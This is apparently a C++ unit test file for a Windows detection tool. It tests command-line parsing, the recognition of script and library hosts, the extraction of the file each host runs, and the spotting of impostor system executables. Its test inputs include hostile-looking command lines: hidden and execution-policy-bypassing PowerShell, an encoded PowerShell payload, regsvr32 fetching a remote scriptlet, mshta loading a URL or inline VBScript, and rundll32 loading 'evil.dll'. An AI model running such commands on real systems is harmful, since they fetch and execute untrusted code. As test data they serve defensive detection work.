#include <gtest/gtest.h>

#include <set>

#include "core/CommandLine.h"
#include "core/SystemFiles.h"

namespace {

using Args = std::vector<std::string>;

TEST(CommandLine, SplitsAsTheSystemBuildsArgumentVectors) {
    struct Case {
        const char* line;
        const char* program;
        Args args;
    } cases[] = {
        {"", "", {}},
        {"notepad.exe", "notepad.exe", {}},
        {"C:\\Tools\\app.exe /min", "C:\\Tools\\app.exe", {"/min"}},
        {"\"C:\\Program Files\\App\\app.exe\" -s  --x\t y", "C:\\Program Files\\App\\app.exe", {"-s", "--x", "y"}},
        // Unquoted spaces end the program token, whatever the folder's name.
        {"C:\\Program Files\\App\\app.exe", "C:\\Program", {"Files\\App\\app.exe"}},
        // The program token takes no escapes: a backslash before its closing quote stays.
        {"\"C:\\dir\\\" next", "C:\\dir\\", {"next"}},
        // ... and the next argument begins right after its closing quote.
        {"\"a.exe\"b c", "a.exe", {"b", "c"}},
        {"\"C:\\unterminated", "C:\\unterminated", {}},
        {"wscript.exe \"C:\\vt\\start up.vbs\" //B", "wscript.exe", {"C:\\vt\\start up.vbs", "//B"}},
        {"x a\"b c\"d e", "x", {"ab cd", "e"}},
        {"x \"\" y", "x", {"", "y"}},
        // 2n backslashes before a quote: n of them, and the quote opens or closes.
        {"x \"C:\\dir\\\\\" y", "x", {"C:\\dir\\", "y"}},
        // 2n+1: n of them and a literal quote.
        {"x a\\\"b", "x", {"a\"b"}},
        {"x a\\\\\\\"b", "x", {"a\\\"b"}},
        // Backslashes not before a quote are literal, even in pairs.
        {"x \\\\server\\share\\a.vbs", "x", {"\\\\server\\share\\a.vbs"}},
        // Three quotes in a row give one literal quote.
        {"x \"a\"\"\"b\"", "x", {"a\"b"}},
        {"x \"\"\"a\"\"\"", "x", {"\"a\""}},
        {"x \"a\"\"b\" c", "x", {"a\"b c"}},
        {"x \"open to the end", "x", {"open to the end"}},
        {"  lead", "", {"lead"}},
        {"caf\xc3\xa9.exe \"d\xc3\xa9j\xc3\xa0 vu.vbs\"", "caf\xc3\xa9.exe", {"d\xc3\xa9j\xc3\xa0 vu.vbs"}},
    };
    for (const auto& c : cases) {
        vt::CommandLine got = vt::SplitCommandLine(c.line);
        EXPECT_EQ(got.program, c.program) << c.line;
        EXPECT_EQ(got.args, c.args) << c.line;
    }
}

TEST(CommandLine, RecognisesScriptAndLibraryHosts) {
    for (const char* p : {"wscript", "WScript.exe", "C:\\Windows\\System32\\cscript.exe", "mshta.exe", "MSHTA",
                          "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "pwsh.exe",
                          "C:/Program Files/PowerShell/7/pwsh.exe", "cmd", "CMD.EXE", "regsvr32", "Regsvr32.Exe",
                          "rundll32.exe", "RUNDLL32.exe", "c:\\windows\\syswow64\\rundll32.exe"})
        EXPECT_TRUE(vt::IsScriptHost(p)) << p;
    for (const char* p : {"", "notepad.exe", "wscript2.exe", "mywscript.exe", "cmd.exe.bak", "powershell_ise.exe",
                          "C:\\cmd\\app.exe", ".exe", "cmd.com"})
        EXPECT_FALSE(vt::IsScriptHost(p)) << p;
}

TEST(CommandLine, PicksTheFileAHostRuns) {
    struct Case {
        const char* line;
        Args candidates;
    } cases[] = {
        {"wscript.exe \"C:\\vt\\start up.vbs\" //B", {"C:\\vt\\start up.vbs"}},
        {"C:\\Windows\\System32\\WScript.exe //B //Nologo //E:vbscript C:\\Users\\x\\AppData\\a.txt",
         {"C:\\Users\\x\\AppData\\a.txt"}},
        {"cscript //T:30 \\\\srv\\share\\logon.js arg", {"\\\\srv\\share\\logon.js"}},
        {"powershell.exe -NoProfile -w hidden -File C:\\vt\\b.ps1", {"C:\\vt\\b.ps1"}},
        // A switch's value is skipped even when it looks like a path.
        {"powershell -WorkingDirectory C:\\Users\\x -ExecutionPolicy Bypass -File \"C:\\a b\\c.ps1\" -Arg C:\\d.txt",
         {"C:\\a b\\c.ps1", "C:\\d.txt"}},
        {"pwsh.exe -wi Hidden -ep bypass -nop -f C:\\x\\y.ps1", {"C:\\x\\y.ps1"}},
        {"powershell -WindowStyle Hidden -Command \"& 'C:\\Users\\x\\run.ps1'\"", {"C:\\Users\\x\\run.ps1"}},
        // The system takes the double quotes off before PowerShell reads its command text.
        {"pwsh -nop -c . C:\\x\\y.ps1 -Path 'C:\\Users\\x\\in put.txt' \"C:\\a b.txt\"; exit",
         {"C:\\x\\y.ps1", "C:\\Users\\x\\in put.txt", "C:\\a"}},
        {"powershell -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA=", {}},
        {"powershell /w hidden /File C:\\x.ps1", {"C:\\x.ps1"}},
        {"regsvr32 /s C:\\vt\\c.dll", {"C:\\vt\\c.dll"}},
        {"regsvr32 /s /n /u /i:http://example.invalid/f.sct scrobj.dll", {}},
        {"mshta.exe https://example.invalid/x", {}},
        {"mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")(window.close)", {}},
        {"mshta \"C:\\Users\\x\\app.hta\"", {"C:\\Users\\x\\app.hta"}},
        {"cmd /c start \"\" /min \"C:\\Users\\x\\go.bat\"", {"C:\\Users\\x\\go.bat"}},
        {"cmd.exe /q /c C:\\x\\a.cmd & exit", {"C:\\x\\a.cmd"}},
        {"C:\\WINDOWS\\system32\\rundll32.exe C:\\Users\\x\\AppData\\evil.dll,Start",
         {"C:\\Users\\x\\AppData\\evil.dll"}},
        {"Rundll32 \"C:\\Program Files\\a,b\\lib.dll\",#1 more", {"C:\\Program Files\\a,b\\lib.dll"}},
        {"rundll32.exe shell32.dll,Control_RunDLL desk.cpl", {}},
        // Not a host: its own arguments are never taken for its file.
        {"C:\\Tools\\app.exe C:\\Tools\\data.vbs", {}},
        {"wscript.exe", {}},
        {"wscript.exe relative\\a.vbs a.vbs", {}},
    };
    for (const auto& c : cases) EXPECT_EQ(vt::ScriptCandidates(vt::SplitCommandLine(c.line)), c.candidates) << c.line;

    // The first usable candidate wins; none usable is no file at all.
    vt::CommandLine both = vt::SplitCommandLine("cmd /c C:\\Windows\\x.bat C:\\Users\\y.bat C:\\Users\\z.bat");
    std::set<std::string> present = {"C:\\Users\\y.bat", "C:\\Users\\z.bat", "C:\\Windows\\x.bat"};
    auto usable = [&](const std::string& p) { return present.count(p) && !vt::IsInWindowsFolder(p, "C:\\Windows"); };
    EXPECT_EQ(vt::PickScriptFile(both, usable), "C:\\Users\\y.bat");
    present.clear();
    EXPECT_EQ(vt::PickScriptFile(both, usable), std::nullopt);
}

TEST(SystemFiles, NormalizesPathsAsText) {
    struct Case {
        const char* in;
        const char* out;
    } cases[] = {
        {"C:\\Windows\\", "C:\\Windows"},
        {"C:/Windows//System32/", "C:\\Windows\\System32"},
        {"C:\\Users\\x\\..\\..\\Windows\\.\\notepad.exe", "C:\\Windows\\notepad.exe"},
        {"C:\\..\\..\\Windows", "C:\\Windows"},
        {"\\\\?\\C:\\Windows\\a", "C:\\Windows\\a"},
        {"\\??\\C:\\Windows\\a", "C:\\Windows\\a"},
        {"\\\\?\\UNC\\srv\\share\\a", "\\\\srv\\share\\a"},
        {"\\\\srv\\share\\..\\..\\a", "\\\\srv\\share\\a"},
        {"", ""},
    };
    for (const auto& c : cases) EXPECT_EQ(vt::NormalizePath(c.in), c.out) << c.in;
}

TEST(SystemFiles, WindowsFolderAtAnyDepthWholeNamesAnyCase) {
    const char* win = "C:\\windows";
    for (const char* p :
         {"C:\\windows", "c:\\WINDOWS\\", "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\notepad.exe",
          "C:\\WINDOWS\\system32\\drivers\\etc\\hosts", "C:\\Users\\..\\Windows\\System32\\a.exe",
          "C:/windows/syswow64/b.dll", "\\\\?\\C:\\Windows\\a.exe"})
        EXPECT_TRUE(vt::IsInWindowsFolder(p, win)) << p;
    for (const char* p : {"C:\\Windows2\\a.exe", "C:\\WindowsApps\\a.exe", "C:\\Users\\x\\Windows\\a.exe",
                          "D:\\Windows\\a.exe", "C:\\Windows\\..\\a.exe", "notepad.exe", ""})
        EXPECT_FALSE(vt::IsInWindowsFolder(p, win)) << p;
    EXPECT_FALSE(vt::IsInWindowsFolder("C:\\Windows\\a.exe", ""));
    EXPECT_TRUE(vt::IsInWindowsFolder("C:\\Windows\\a.exe", "C:\\Windows\\"));
}

TEST(SystemFiles, ImpostorsAreSystemNamesOutsideTheirFolders) {
    const char* win = "C:\\Windows";
    for (const char* p : {"SVCHOST.EXE", "lsass.exe", "csrss.exe", "winlogon.exe", "services.exe", "smss.exe",
                          "explorer.exe", "rundll32.exe", "spoolsv.exe", "taskhostw.exe", "dllhost.exe", "Conhost.Exe"})
        EXPECT_TRUE(vt::IsSystemProgramName(p)) << p;
    for (const char* p : {"svch0st.exe", "svchost", "svchost.exe.lnk", "notepad.exe", "xsvchost.exe", ""})
        EXPECT_FALSE(vt::IsSystemProgramName(p)) << p;

    for (const char* p : {"C:\\Users\\x\\AppData\\Local\\Temp\\svchost.exe", "C:\\Windows\\Temp\\svchost.exe",
                          "C:\\Windows\\System32\\drivers\\lsass.exe", "C:\\ProgramData\\explorer.exe",
                          "D:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System\\csrss.exe",
                          "C:\\Windows\\System32\\..\\..\\svchost.exe"})
        EXPECT_TRUE(vt::IsImpostor(p, win)) << p;
    for (const char* p : {"C:\\Windows\\explorer.exe", "c:\\windows\\system32\\SVCHOST.exe",
                          "C:\\WINDOWS\\SysWOW64\\rundll32.exe", "C:/Windows/System32/conhost.exe",
                          "C:\\Users\\x\\svch0st.exe", "svchost.exe", "C:\\Users\\x\\..\\..\\Windows\\explorer.exe"})
        EXPECT_FALSE(vt::IsImpostor(p, win)) << p;
    // Without the Windows folder there is nothing to judge by.
    EXPECT_FALSE(vt::IsImpostor("C:\\Temp\\svchost.exe", ""));
}

}  // namespace
